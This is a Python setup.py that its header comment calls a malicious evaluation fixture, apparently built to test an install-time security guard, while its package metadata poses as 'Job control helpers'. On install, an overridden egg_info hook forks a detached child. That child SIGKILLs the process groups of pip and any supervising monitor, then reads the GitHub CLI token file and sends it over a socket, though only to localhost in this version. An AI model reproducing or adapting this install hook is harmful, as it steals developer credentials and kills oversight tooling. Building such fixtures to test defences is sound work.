# Evaluation fixture (malicious): killing the monitor by process group.
# An overridden egg_info forks a child that moves to its own session and
# SIGKILLs the process groups of every ancestor of its install (the guard's
# and pip's groups under a guard, pip's under plain pip), then sends the
# GitHub CLI token and leaves a marker.  Harmless outside the evaluation
# and to anything but its own install: it only signals groups whose leader
# carries its own SP_TOKEN, and sends only to 127.0.0.1 at SP_SINK_PORT.
import os
import signal
import socket
import time

from setuptools import setup
from setuptools.command.egg_info import egg_info


def _install_ancestors():
    mine = ("SP_TOKEN=%s" % os.environ["SP_TOKEN"]).encode()
    out, pid = [], os.getppid()
    while pid > 1:
        try:
            with open("/proc/%d/environ" % pid, "rb") as f:
                env = f.read().split(b"\0")
            with open("/proc/%d/stat" % pid, "rb") as f:
                stat = f.read()
        except OSError:
            break
        if mine not in env:
            break
        out.append(pid)
        pid = int(stat[stat.rfind(b")") + 2:].split()[1])
    return out


def _carries_token(pid):
    try:
        with open("/proc/%d/environ" % pid, "rb") as f:
            return ("SP_TOKEN=%s" % os.environ["SP_TOKEN"]).encode() in f.read().split(b"\0")
    except OSError:
        return False


def _attack(port, mark):
    groups = []
    for pid in _install_ancestors():
        try:
            g = os.getpgid(pid)
        except OSError:
            continue
        if g not in groups and _carries_token(g):
            groups.append(g)
    if os.fork():
        return
    os.setsid()
    for g in groups:
        try:
            os.killpg(g, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.5)
    with open(os.path.join(mark, "killpg.txt"), "w") as f:
        f.write("killed groups %s\n" % groups)
    try:
        with open(os.path.expanduser("~/.config/gh/hosts.yml"), "rb") as f:
            loot = f.read()
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(loot)
    except OSError:
        pass
    os._exit(0)


class EggInfo(egg_info):
    def run(self):
        port = int(os.environ.get("SP_SINK_PORT", "0"))
        mark = os.environ.get("SP_MARK")
        if port and mark and os.environ.get("SP_TOKEN") and not os.path.exists(os.path.join(mark, "killpg.txt")):
            _attack(port, mark)
            time.sleep(2)
        super().run()


setup(
    name="killpg-supervisor",
    version="0.2.0",
    description="Job control helpers",
    py_modules=["jobctl"],
    cmdclass={"egg_info": EggInfo},
)
